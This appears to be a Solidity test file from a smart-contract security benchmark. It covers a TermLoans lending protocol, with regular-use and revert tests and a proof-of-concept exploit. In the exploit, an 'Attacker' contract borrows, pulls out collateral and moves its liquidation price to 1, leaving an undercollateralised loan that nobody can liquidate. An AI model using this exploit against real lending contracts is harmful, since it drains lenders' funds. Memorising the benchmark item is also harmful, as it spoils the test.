// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-e54bdced-d55b-4d8d-bd46-2bd9a23789c0

import "./TermLoans.sol";
import {DailyFeed} from "./context/DailyFeed.sol";
import {ITermLoans, LoanLens} from "./context/LoanLens.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Usdc is ERC20("USDC", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        _mint(to, value);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Gold is ERC20("GOLD", "GOLD") {
    address private minter = msg.sender;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        _mint(to, value);
    }
}

/// A borrower like the others. Has read the next price.
contract Attacker {
    function borrow(TermLoans loans, Gold gold) external {
        gold.approve(address(loans), type(uint256).max);
        uint256 id = loans.open(0, 1_000e18, 70_000e6, 75e6);
        loans.takeCollateral(id, 7e18);
        loans.moveLiqPrice(id, 1);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    uint256 private constant MAX = type(uint256).max;
    address private constant ANA = address(0xA11A);
    address private constant BEN = address(0xBE11);
    address private constant BUYER = address(0xB0E4);
    address private constant PUBLISHER = address(0x9B11);

    Usdc public usdc;
    Gold public gold;
    DailyFeed public feed;
    TermLoans public loans;
    LoanLens public lens;
    Attacker public sly;

    function setUp() public {
        vm.warp(START);
        usdc = new Usdc();
        gold = new Gold();
        feed = new DailyFeed(PUBLISHER, 100e6);
        loans = new TermLoans(usdc);
        lens = new LoanLens();
        sly = new Attacker();
        loans.addMarket(gold, feed, 300_000e6);
        usdc.mint(address(loans), 200_000e6);
        usdc.mint(BUYER, 500_000e6);
        gold.mint(ANA, 1_000e18);
        gold.mint(address(sly), 1_000e18);
        vm.startPrank(ANA);
        gold.approve(address(loans), MAX);
        usdc.approve(address(loans), MAX);
        loans.open(0, 500e18, 30_000e6, 70e6);
        vm.stopPrank();
        vm.prank(BUYER);
        usdc.approve(address(loans), MAX);

        // It will be cheaper tomorrow.
        publish(84e6, START + 1 days);
    }

    function publish(uint256 price, uint256 from) private {
        vm.prank(PUBLISHER);
        feed.publish(uint192(price), uint64(from));
    }

    /// What the treasury can count on: its usdc, and of each loan what the collateral brings where it is liquidated.
    function treasuryCounts() public view returns (uint256 sum) {
        sum = loans.freeUsdc();
        uint256 price = feed.price();
        for (uint256 i = 0; i < loans.loanCount(); ++i) {
            LoanBook.Loan memory loan = loans.loanOf(i);
            uint256 at = loan.liqPrice < price ? loan.liqPrice : price;
            uint256 brings = (loan.collateral * at * 95) / 100 / 1e18;
            sum += brings < loan.debt ? brings : loan.debt;
        }
    }

    function marketDebt(uint256 market) private view returns (uint256 debt) {
        (, , , debt, ) = loans.markets(market);
    }

    function test_Regular() public {
        ITermLoans seen = ITermLoans(address(loans));
        require(treasuryCounts() == 200_300e6 && marketDebt(0) == 30_300e6, "covered in full");
        require(loans.coverOf(0) == 33_250e6 && lens.usage(seen, 0) == 9_112, "cover");

        // A higher liquidation price frees collateral.
        vm.startPrank(ANA);
        loans.moveLiqPrice(0, 75e6);
        loans.takeCollateral(0, 70e18);
        require(loans.loanOf(0).collateral == 430e18 && treasuryCounts() == 200_300e6, "still covered");
        loans.takeCollateral(0, 4e18);
        loans.addCollateral(0, 4e18);
        require(loans.repay(0, 10_300e6) == 10_300e6 && marketDebt(0) == 20_000e6, "a part");
        vm.stopPrank();
        require(lens.due(seen, 0, 1).length == 0 && feed.price() == 100e6 && feed.lowest() == 84e6, "not due");

        // The price falls to the liquidation price.
        vm.warp(START + 1 days);
        publish(75e6, START + 2 days);
        vm.warp(START + 2 days);
        require(loans.liquidatable(0) && lens.due(seen, 0, 1).length == 1, "due");
        uint256 before = loans.freeUsdc();
        vm.prank(BUYER);
        require(loans.liquidate(0, 30_637_500_000) == 30_637_500_000, "95 % of the price");
        require(gold.balanceOf(BUYER) == 430e18 && loans.freeUsdc() == before + 20_000e6, "debt is paid");
        require(loans.owedTo(ANA) == 10_637_500_000 && loans.totalOwed() == 10_637_500_000, "kept for Ana");
        vm.prank(ANA);
        require(loans.collect(ANA) == 10_637_500_000 && loans.totalOwed() == 0 && loans.owedTo(ANA) == 0, "collected");
        require(usdc.balanceOf(ANA) == 30_000e6 - 10_300e6 + 10_637_500_000 && marketDebt(0) == 0, "Ana has the rest");

        // A loan moves to another owner, who extends it and pays it off.
        vm.startPrank(ANA);
        uint256 id = loans.open(0, 570e18, 20_000e6, 50e6);
        loans.approve(BUYER, id);
        loans.setApprovalForAll(BUYER, true);
        loans.safeTransferFrom(ANA, BUYER, id);
        vm.stopPrank();
        vm.warp(START + 362 days);
        vm.startPrank(BUYER);
        require(loans.extend(id) == 202e6 && loans.loanOf(id).dueAt == START + 722 days, "extended");
        loans.safeTransferFrom(BUYER, ANA, id, "");
        loans.transferFrom(ANA, BUYER, id);
        require(loans.repay(id, MAX) == 20_200e6, "paid off");
        vm.stopPrank();
        require(gold.balanceOf(BUYER) == 1_000e18 && loans.balanceOf(BUYER) == 0, "collateral is back");
        require(loans.loanOf(id).debt == 0 && marketDebt(0) == 0, "closed");

        // One that runs out its term, in another market and below its debt.
        publish(97e6, START + 362 days);
        uint256 market = loans.addMarket(gold, feed, 1e6);
        loans.setMarket(market, 50_000e6, true);
        loans.setFee(500);
        require(loans.marketCount() == 2 && loans.feeBps() == 500, "markets");
        vm.startPrank(BUYER);
        gold.approve(address(loans), MAX);
        id = loans.open(market, 280e18, 20_000e6, 80e6);
        vm.stopPrank();
        require(marketDebt(market) == 21_000e6, "a higher fee");
        vm.warp(START + 722 days + 1);
        publish(70e6, START + 722 days + 1);
        before = usdc.balanceOf(address(loans));
        vm.prank(BUYER);
        require(loans.liquidate(id, MAX) == 18_620e6 && usdc.balanceOf(address(loans)) == before + 18_620e6, "a loss");

        // The owner.
        loans.setPaused(true);
        loans.setPaused(false);
        loans.withdrawUsdc(BEN, 1e6);
        require(usdc.balanceOf(BEN) == 1e6, "withdrawn");
        feed.setPublisher(BEN);
        require(feed.publisher() == BEN, "publisher");
        loans.transferOwnership(BEN);
        vm.startPrank(BEN);
        loans.acceptOwnership();
        loans.renounceOwnership();
        vm.stopPrank();
        require(loans.owner() == address(0), "nobody's");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function says(address who, string memory why) private {
        refuses(who, abi.encodeWithSignature("Error(string)", why));
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(LoanBook.NotBorrower.selector);
        refuses(BEN, why);
        loans.moveLiqPrice(0, 75e6);
        refuses(BEN, why);
        loans.takeCollateral(0, 0);
        refuses(BEN, why);
        loans.extend(0);
        why = abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", BEN);
        refuses(BEN, why);
        loans.addMarket(gold, feed, 1);
        refuses(BEN, why);
        loans.setMarket(0, 1, true);
        refuses(BEN, why);
        loans.setFee(0);
        refuses(BEN, why);
        loans.setPaused(true);
        refuses(BEN, why);
        loans.withdrawUsdc(BEN, 1);
        refuses(BEN, why);
        loans.transferOwnership(BEN);
        refuses(BEN, why);
        loans.acceptOwnership();
        refuses(BEN, why);
        loans.renounceOwnership();
        refuses(BEN, why);
        feed.setPublisher(BEN);
        refuses(BEN, abi.encodeWithSelector(DailyFeed.NotPublisher.selector));
        feed.publish(84e6, uint64(START + 1 days));
        refuses(BEN, abi.encodeWithSignature("ERC721InsufficientApproval(address,uint256)", BEN, 0));
        loans.transferFrom(ANA, BEN, 0);
        refuses(BEN, abi.encodeWithSignature("ERC721InvalidApprover(address)", BEN));
        loans.approve(BEN, 0);
    }

    function test_RefusesLoans() public {
        says(ANA, "small loan");
        loans.open(0, 500e18, 100e6 - 1, 70e6);
        refuses(ANA, abi.encodeWithSelector(TermLoans.TooClose.selector, 75.6e6 + 1, 84e6));
        loans.open(0, 500e18, 10_000e6, 75.6e6 + 1);
        refuses(ANA, abi.encodeWithSelector(TermLoans.NotCovered.selector, 7_125e6, 9_090e6));
        loans.open(0, 100e18, 9_000e6, 75e6);
        loans.setMarket(0, 39_390e6, true);
        says(ANA, "debt cap");
        loans.open(0, 500e18, 9_000e6 + 1, 75e6);
        loans.setMarket(0, 39_390e6, false);
        says(ANA, "market closed");
        loans.open(0, 500e18, 9_000e6, 75e6);
        loans.setPaused(true);
        refuses(ANA, abi.encodeWithSignature("EnforcedPause()"));
        loans.open(0, 500e18, 9_000e6, 75e6);
        refuses(ANA, abi.encodeWithSignature("EnforcedPause()"));
        loans.extend(0);
    }

    function test_RefusesChanges() public {
        refuses(ANA, abi.encodeWithSelector(TermLoans.TooClose.selector, 75.6e6 + 1, 84e6));
        loans.moveLiqPrice(0, 75.6e6 + 1);
        refuses(ANA, abi.encodeWithSelector(TermLoans.NotCovered.selector, 26_600e6, 30_300e6));
        loans.takeCollateral(0, 100e18);
        bytes memory none = abi.encodeWithSignature("ERC721NonexistentToken(uint256)", 7);
        refuses(ANA, none);
        loans.addCollateral(7, 1);
        refuses(ANA, none);
        loans.repay(7, 1);
        refuses(ANA, none);
        loans.liquidate(7, 1);
        refuses(BUYER, abi.encodeWithSelector(TermLoans.NotLiquidatable.selector));
        loans.liquidate(0, MAX);
        vm.warp(START + 360 days);
        refuses(BUYER, abi.encodeWithSelector(TermLoans.NotLiquidatable.selector));
        loans.liquidate(0, MAX);
        vm.warp(START + 360 days + 1);
        refuses(ANA, abi.encodeWithSelector(TermLoans.Overdue.selector));
        loans.extend(0);
        says(BUYER, "too dear");
        loans.liquidate(0, 39_900e6 - 1);
    }

    /// What is kept for a borrower is neither lent nor withdrawn nor collected by others.
    function test_RefusesOwed() public {
        says(ANA, "nothing owed");
        loans.collect(ANA);
        vm.warp(START + 360 days + 1);
        vm.prank(BUYER);
        loans.liquidate(0, MAX);
        require(loans.freeUsdc() == 200_300e6 && loans.owedTo(ANA) == 9_600e6, "kept for Ana");
        says(BUYER, "nothing owed");
        loans.collect(BUYER);
        says(address(this), "short of usdc");
        loans.withdrawUsdc(BEN, 200_300e6 + 1);
        loans.withdrawUsdc(BEN, 200_200e6 + 1);
        says(ANA, "short of usdc");
        loans.open(0, 500e18, 100e6, 75e6);
        vm.prank(ANA);
        loans.collect(BEN);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "nothing owed"));
        loans.collect(ANA);
    }

    /// Below the cover a term is not extended.
    function test_RefusesUncoveredExtensions() public {
        vm.warp(START + 1 days);
        publish(60e6, START + 1 days);
        refuses(ANA, abi.encodeWithSelector(TermLoans.NotCovered.selector, 28_500e6, 30_300e6));
        loans.extend(0);
    }

    function test_RefusesSettings() public {
        address me = address(this);
        says(me, "no usdc");
        new TermLoans(IERC20(address(0)));
        says(me, "bad token");
        loans.addMarket(usdc, feed, 1);
        says(me, "bad token");
        loans.addMarket(IERC20(address(0)), feed, 1);
        Dead dead = new Dead();
        says(me, "no price");
        loans.addMarket(gold, dead, 1);
        says(me, "fee too high");
        loans.setFee(501);
        says(me, "bad setup");
        new DailyFeed(address(0), 1);
        says(me, "bad setup");
        new DailyFeed(me, 0);
        says(me, "no publisher");
        feed.setPublisher(address(0));
        says(PUBLISHER, "one at a time");
        feed.publish(84e6, uint64(START + 2 days));
        vm.warp(START + 1 days);
        says(PUBLISHER, "bad time");
        feed.publish(84e6, uint64(START + 1 days - 1));
        says(PUBLISHER, "bad time");
        feed.publish(84e6, uint64(START + 8 days + 1));
        says(PUBLISHER, "big move");
        feed.publish(58.8e6 - 1, uint64(START + 2 days));
        says(PUBLISHER, "big move");
        feed.publish(109.2e6 + 1, uint64(START + 2 days));
    }

    function exploit() public {
        sly.borrow(loans, gold);
    }

    function test_Exploit() public {
        uint256 before = treasuryCounts();
        exploit();
        require(treasuryCounts() + 69_900e6 <= before, "still covered");
        require(usdc.balanceOf(address(sly)) == 70_000e6 && gold.balanceOf(address(sly)) == 7e18, "taken out");
        // Through the former liquidation price, and nobody can liquidate.
        vm.warp(START + 1 days);
        publish(60e6, START + 2 days);
        vm.warp(START + 2 days);
        vm.prank(BUYER);
        vm.expectRevert(abi.encodeWithSelector(TermLoans.NotLiquidatable.selector));
        loans.liquidate(1, MAX);
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(sly);
    }
}

contract Dead is IDailyFeed {
    function price() external pure returns (uint256) {
        return 0;
    }

    function lowest() external pure returns (uint256) {
        return 0;
    }
}
